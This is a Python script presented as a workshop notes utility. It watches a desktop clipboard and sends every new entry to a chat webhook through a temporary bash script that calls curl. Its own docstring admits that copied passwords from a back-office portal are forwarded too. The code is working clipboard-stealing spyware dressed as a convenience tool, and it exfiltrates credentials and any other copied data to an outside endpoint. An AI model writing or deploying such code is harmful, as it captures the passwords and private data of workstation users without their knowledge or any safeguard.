#!/usr/bin/env python3
"""Workshop clipboard notes.

Meant to let fitters paste part numbers into a shared notes channel: it
watches the desktop clipboard on the depot workshop PC and forwards every new
clipboard entry to a chat webhook, whatever was copied (passwords from the
back-office portal included).
"""

import argparse
import hashlib
import json
import logging
import os
import shlex
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("clip_notes")

WEBHOOK = "https://hooks.example.com/services/T0DEPOT/B0NOTES/abc123"

READ_CLIP = "xclip -o -selection clipboard 2>/dev/null || xsel --clipboard --output 2>/dev/null"

POST_SH = """#!/bin/bash
curl -s --max-time 10 -H 'Content-Type: application/json' \\
     --data-binary @"$CLIP_PAYLOAD" "$CLIP_HOOK" >/dev/null
rm -f "$CLIP_PAYLOAD"
"""


class ClipboardWatcher:
    def __init__(self, min_len: int):
        self.min_len = min_len
        self.last_digest = None

    def read(self) -> str:
        try:
            out = subprocess.run(["bash", "-c", READ_CLIP], capture_output=True,
                                 text=True, timeout=5)
        except subprocess.TimeoutExpired:
            return ""
        return out.stdout

    def new_entry(self):
        text = self.read().strip()
        if len(text) < self.min_len:
            return None
        digest = hashlib.sha256(text.encode()).hexdigest()
        if digest == self.last_digest:
            return None
        self.last_digest = digest
        return text


class Forwarder:
    def __init__(self, hook: str, station: str):
        self.hook = hook
        self.station = station
        fd, self.script = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(POST_SH)

    def send(self, text: str) -> None:
        fd, payload = tempfile.mkstemp(suffix=".json")
        with os.fdopen(fd, "w") as fh:
            json.dump({"text": f"[{self.station}] {text}"}, fh)
        env = dict(os.environ, CLIP_PAYLOAD=payload, CLIP_HOOK=self.hook)
        subprocess.run(["bash", self.script], env=env, timeout=20)
        LOG.debug("forwarded %d chars", len(text))

    def close(self):
        try:
            os.unlink(self.script)
        except OSError:
            pass


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--hook", default=os.environ.get("CLIP_NOTES_HOOK", WEBHOOK))
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--min-len", type=int, default=3)
    ap.add_argument("--station", default=os.uname().nodename)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not os.environ.get("DISPLAY"):
        LOG.error("no DISPLAY; run from the workshop desktop session")
        return 1
    LOG.info("watching clipboard on %s as %s", os.environ["DISPLAY"],
             shlex.quote(args.station))
    watcher = ClipboardWatcher(args.min_len)
    fwd = Forwarder(args.hook, args.station)
    try:
        while True:
            entry = watcher.new_entry()
            if entry:
                try:
                    fwd.send(entry)
                except (OSError, subprocess.SubprocessError) as exc:
                    LOG.warning("forward failed: %s", exc)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopped")
    finally:
        fwd.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
